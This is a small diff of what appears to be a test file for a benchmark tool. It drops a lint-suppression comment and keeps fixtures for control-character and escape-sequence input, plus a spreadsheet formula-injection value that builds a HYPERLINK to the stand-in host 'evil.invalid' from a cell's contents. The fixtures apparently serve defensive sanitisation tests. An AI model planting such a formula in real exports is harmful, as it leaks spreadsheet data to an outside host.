@@ -17,7 +17,6 @@ import { writeExampleCampaign } from '../../src/synth/example.js';
 const scratch = mkdtempSync(join(tmpdir(), 'cnibench-control-'));
 afterAll(() => rmSync(scratch, { recursive: true, force: true }));
 
-// eslint-disable-next-line no-control-regex
 const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f]/;
 const EVIL_TESTBED = 'AT\x1b[31mH\x01';
 const FORMULA_TESTBED = '=HYPERLINK("evil.invalid"&A1,"ok")';
